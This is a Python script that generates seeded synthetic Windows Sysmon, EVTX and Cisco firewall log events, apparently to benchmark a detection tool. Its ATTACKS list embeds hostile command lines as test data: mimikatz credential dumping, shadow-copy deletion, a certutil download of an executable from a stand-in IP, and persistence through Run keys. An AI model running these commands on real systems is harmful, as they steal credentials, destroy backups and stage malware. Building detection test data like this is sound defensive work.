"""Events of Windows machines and network devices for script/bench: the same seed and number give the same bytes.

Nothing is taken from anybody's logs. Names, paths and command lines are those of ordinary machines at work; identifiers,
hashes, times and arguments are drawn anew for each event, so that most events differ from every other.

    sysmon      flat objects, one for each event, of the kinds that Sysmon writes, about 860 bytes
    evtx        the same events as nested EVTX JSON: Event.System and Event.EventData
    files       files created (Sysmon 11), the shortest of them
    cisco       lines as a firewall sends them to syslog
    mixed       six tenths sysmon, two tenths files, two tenths application JSON
    no-match    process creations whose text is letters and digits drawn at random
    match-heavy process creations of which half are attacks that public rules know
"""

import json
import random

IMAGES = ["System32\\svchost.exe", "System32\\cmd.exe", "System32\\WindowsPowerShell\\v1.0\\powershell.exe", "System32\\rundll32.exe",
          "System32\\conhost.exe", "System32\\wbem\\WmiPrvSE.exe", "System32\\taskhostw.exe", "System32\\services.exe", "explorer.exe",
          "System32\\reg.exe", "System32\\net.exe", "System32\\schtasks.exe", "SysWOW64\\msiexec.exe", "System32\\lsass.exe",
          "System32\\SearchIndexer.exe", "System32\\regsvr32.exe", "System32\\dllhost.exe", "System32\\sc.exe", "System32\\wscript.exe"]
PROGRAMS = ["Google\\Chrome\\Application\\chrome.exe", "Microsoft\\Edge\\Application\\msedge.exe", "Microsoft Office\\root\\Office16\\WINWORD.EXE",
            "Microsoft Office\\root\\Office16\\EXCEL.EXE", "Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "7-Zip\\7zFM.exe", "Git\\cmd\\git.exe",
            "Python311\\python.exe", "Java\\jdk-17\\bin\\java.exe", "Notepad++\\notepad++.exe", "Mozilla Firefox\\firefox.exe"]
ARGUMENTS = ["-k netsvcs -p -s Schedule", "/c dir C:\\Users\\{user}\\Documents\\{word}.txt", "-NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\{word}.ps1",
             "C:\\Windows\\System32\\shell32.dll,Control_RunDLL {word}.cpl", "0xffffffff -ForceV1", "-secured -Embedding", "--type=renderer --lang=en-US {number}",
             "query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run /v {word}", "user {user} /domain", "/query /tn \\Microsoft\\Windows\\{word} /fo LIST",
             "/i C:\\Users\\{user}\\Downloads\\{word}.msi /qn /norestart", "/s C:\\Program Files\\Common Files\\{word}.dll", "query state= all",
             "//B //Nologo C:\\ProgramData\\{word}\\{word}.vbs", "\"C:\\Users\\{user}\\AppData\\Local\\Temp\\{word}-{number}.docx\"", "-m pip install {word}=={number}",
             "-Xmx{number}m -jar C:\\ProgramData\\{word}\\service.jar --port {number}", "fetch origin {word}/{number}"]
ATTACKS = ["-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA{word}", "/c whoami /all > C:\\Users\\Public\\{word}.txt", "/c vssadmin delete shadows /all /quiet",
           "-urlcache -split -f http://198.51.100.7/{word}.exe C:\\Users\\Public\\{word}.exe", "/create /sc minute /mo 5 /tn {word} /tr C:\\Users\\Public\\{word}.exe",
           "privilege::debug sekurlsa::logonpasswords exit", "add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v {word} /d C:\\Users\\Public\\{word}.exe"]
ATTACKERS = ["System32\\WindowsPowerShell\\v1.0\\powershell.exe", "System32\\cmd.exe", "System32\\cmd.exe", "System32\\certutil.exe", "System32\\schtasks.exe",
             "Temp\\mimikatz.exe", "System32\\reg.exe"]
MODULES = ["ntdll.dll", "kernel32.dll", "advapi32.dll", "user32.dll", "amsi.dll", "clr.dll", "combase.dll", "crypt32.dll", "wininet.dll", "vaultcli.dll"]
KEYS = ["HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\{word}", "HKLM\\System\\CurrentControlSet\\Services\\{word}\\Start",
        "HKU\\S-1-5-21-{number}\\Software\\Microsoft\\Office\\16.0\\Word\\{word}", "HKCU\\Software\\Classes\\CLSID\\{{{word}}}\\InprocServer32\\(Default)"]
FILES = ["C:\\Users\\{user}\\AppData\\Local\\Temp\\{word}.tmp", "C:\\Users\\{user}\\Downloads\\{word}.zip", "C:\\ProgramData\\Microsoft\\{word}\\{word}.log",
         "C:\\Windows\\Prefetch\\{word}.EXE-{number}.pf", "C:\\Windows\\Temp\\{word}.ps1", "C:\\Users\\{user}\\Documents\\{word}.docx"]
SYLLABLES = ["ar", "bel", "co", "den", "el", "fir", "gan", "hol", "in", "kor", "lum", "mer", "nor", "op", "pra", "quin", "ros", "sel", "tor", "ul", "ven", "wes"]
LETTERS = "abcdefghijklmnopqrstuvwxyz0123456789"


class Draw:
    def __init__(self, seed):
        self.rng = random.Random(f"vigie/lanes/{seed}")
        self.pick = self.rng.choice

    def hex(self, digits):
        return f"{self.rng.getrandbits(digits * 4):0{digits}X}"

    def guid(self):
        text = self.hex(32)
        return "{" + f"{text[:8]}-{text[8:12]}-{text[12:16]}-{text[16:20]}-{text[20:]}" + "}"

    def word(self):
        return "".join(self.pick(SYLLABLES) for _ in range(self.rng.randrange(2, 5)))

    def fill(self, pattern, user):
        return pattern.format(user=user, word=self.word(), number=self.rng.randrange(1, 10 ** 6))

    def image(self):
        return ("C:\\Windows\\" + self.pick(IMAGES) if self.rng.random() < 0.7 else "C:\\Program Files\\" + self.pick(PROGRAMS))


def common(draw, number, kind):
    second = number // 50
    time = f"2026-03-{1 + second // 86400 % 28:02d} {second // 3600 % 24:02d}:{second // 60 % 60:02d}:{second % 60:02d}.{number % 50 * 20:03d}"
    return {"@timestamp": time.replace(" ", "T") + "Z", "EventID": kind, "Channel": "Microsoft-Windows-Sysmon/Operational",
            "Provider_Name": "Microsoft-Windows-Sysmon", "Computer": f"WS-{draw.rng.randrange(400):04d}.corp.example", "UtcTime": time,
            "ProcessGuid": draw.guid(), "ProcessId": draw.rng.randrange(400, 30000)}


def process(draw, number, attack=0.01, noise=False):
    user = f"{draw.word()}{draw.rng.randrange(100)}"
    image, parent = draw.image(), draw.image()
    arguments = draw.fill(draw.pick(ARGUMENTS), user)
    if draw.rng.random() < attack:
        choice = draw.rng.randrange(len(ATTACKS))
        image, arguments = "C:\\Windows\\" + ATTACKERS[choice], draw.fill(ATTACKS[choice], user)
    if noise:
        text = lambda length: "".join(draw.pick(LETTERS) for _ in range(length))  # noqa: E731
        image, parent, arguments = f"{text(12)}/{text(9)}", f"{text(12)}/{text(9)}", text(90)
    name = image.rsplit("\\", 1)[-1]
    event = common(draw, number, 1)
    event |= {"Image": image, "FileVersion": f"10.0.{draw.rng.randrange(19041, 26100)}.{draw.rng.randrange(5000)}",
              "Description": name.split(".")[0], "Product": "Microsoft® Windows® Operating System", "Company": "Microsoft Corporation",
              "OriginalFileName": name, "CommandLine": f"\"{image}\" {arguments}", "CurrentDirectory": f"C:\\Users\\{user}\\",
              "User": f"CORP\\{user}", "LogonGuid": draw.guid(), "LogonId": "0x" + draw.hex(6).lower(), "TerminalSessionId": 1,
              "IntegrityLevel": draw.pick(["Medium", "High", "System"]), "Hashes": f"MD5={draw.hex(32)},SHA256={draw.hex(64)},IMPHASH={draw.hex(32)}",
              "ParentProcessGuid": draw.guid(), "ParentProcessId": draw.rng.randrange(400, 30000), "ParentImage": parent,
              "ParentCommandLine": f"\"{parent}\" {draw.fill(draw.pick(ARGUMENTS), user)}", "ParentUser": f"CORP\\{user}"}
    return event


def other(draw, number):
    user = f"{draw.word()}{draw.rng.randrange(100)}"
    kind = draw.pick([3, 7, 10, 11, 13, 22])
    event = common(draw, number, kind) | {"Image": draw.image(), "User": f"CORP\\{user}"}
    if kind == 3:
        event |= {"Protocol": "tcp", "Initiated": "true", "SourceIp": f"10.1.{draw.rng.randrange(256)}.{draw.rng.randrange(256)}",
                  "SourcePort": draw.rng.randrange(49152, 65535), "DestinationIp": f"203.0.113.{draw.rng.randrange(256)}",
                  "DestinationHostname": f"{draw.word()}.example.net", "DestinationPort": draw.pick([80, 443, 445, 3389, 8080])}
    elif kind == 7:
        event |= {"ImageLoaded": "C:\\Windows\\System32\\" + draw.pick(MODULES), "Signed": "true", "SignatureStatus": "Valid",
                  "Signature": "Microsoft Windows", "Hashes": f"SHA256={draw.hex(64)}", "Company": "Microsoft Corporation"}
    elif kind == 10:
        event |= {"SourceImage": draw.image(), "TargetImage": draw.image(), "GrantedAccess": draw.pick(["0x1000", "0x1400", "0x1fffff"]),
                  "CallTrace": "|".join(f"C:\\Windows\\SYSTEM32\\{draw.pick(MODULES)}+{draw.hex(5).lower()}" for _ in range(8))}
    elif kind == 11:
        event |= {"TargetFilename": draw.fill(draw.pick(FILES), user), "CreationUtcTime": event["UtcTime"]}
    elif kind == 13:
        event |= {"EventType": "SetValue", "TargetObject": draw.fill(draw.pick(KEYS), user), "Details": draw.pick(["DWORD (0x00000001)", "Binary Data", draw.image()])}
    else:
        event |= {"QueryName": f"{draw.word()}.{draw.word()}.example.org", "QueryStatus": "0", "QueryResults": f"203.0.113.{draw.rng.randrange(256)};"}
    return event


def file_created(draw, number):
    user = f"{draw.word()}{draw.rng.randrange(100)}"
    return common(draw, number, 11) | {"Image": draw.image(), "TargetFilename": draw.fill(draw.pick(FILES), user), "User": f"CORP\\{user}"}


def cisco(draw, number):
    second = number // 50
    clock = f"{second // 3600 % 24:02d}:{second // 60 % 60:02d}:{second % 60:02d}"
    a, b = f"10.2.{draw.rng.randrange(256)}.{draw.rng.randrange(256)}", f"198.51.100.{draw.rng.randrange(256)}"
    port = draw.rng.randrange(1024, 65535)
    text = draw.pick([f"%ASA-6-302013: Built outbound TCP connection {number} for outside:{b}/443 ({b}/443) to inside:{a}/{port} ({a}/{port})",
                      f"%ASA-6-302014: Teardown TCP connection {number} for outside:{b}/443 to inside:{a}/{port} duration 0:00:{port % 60:02d} bytes {port}",
                      f"%ASA-4-106023: Deny tcp src outside:{b}/{port} dst inside:{a}/22 by access-group \"outside_in\"",
                      f"%SYS-5-CONFIG_I: Configured from console by {draw.word()} on vty0 ({a})"])
    return f"<166>Mar {1 + second // 86400 % 28:2d} {clock} fw{port % 8} : {text}"


def application(draw, number):
    return {"@timestamp": common(draw, number, 0)["@timestamp"], "event.action": draw.pick(["login", "read", "update"]), "user.name": draw.word(),
            "source.ip": f"192.0.2.{draw.rng.randrange(256)}", "message": f"{draw.word()} {draw.word()} done in {draw.rng.randrange(900)} ms"}


def evtx(event):
    system = {"Provider": {"#attributes": {"Name": event["Provider_Name"]}}, "EventID": event["EventID"], "Channel": event["Channel"],
              "Computer": event["Computer"], "TimeCreated": {"#attributes": {"SystemTime": event["@timestamp"]}}}
    data = {name: value for name, value in event.items() if name not in ("@timestamp", "EventID", "Channel", "Provider_Name", "Computer")}
    return {"Event": {"System": system, "EventData": data}}


def sysmon(draw, number):
    return process(draw, number) if draw.rng.random() < 0.7 else other(draw, number)


def mixed(draw, number):
    chance = draw.rng.random()
    return sysmon(draw, number) if chance < 0.6 else file_created(draw, number) if chance < 0.8 else application(draw, number)


LANES = {
    "sysmon": sysmon,
    "evtx": lambda draw, number: evtx(sysmon(draw, number)),
    "files": file_created,
    "cisco": cisco,
    "mixed": mixed,
    "no-match": lambda draw, number: process(draw, number, attack=0, noise=True),
    "match-heavy": lambda draw, number: process(draw, number, attack=0.5),
}
#: What `vigie detect --format` calls a lane.
FORMATS = {name: "syslog" if name == "cisco" else "windows" for name in LANES}


def lines(lane, events, seed):
    draw = Draw(f"{seed}/{lane}")
    for number in range(events):
        event = LANES[lane](draw, number)
        yield (event if isinstance(event, str) else json.dumps(event, ensure_ascii=False, separators=(",", ":"))) + "\n"


def write(path, lane, events, seed):
    with open(path, "w", encoding="utf-8", buffering=1 << 20) as file:
        file.writelines(lines(lane, events, seed))
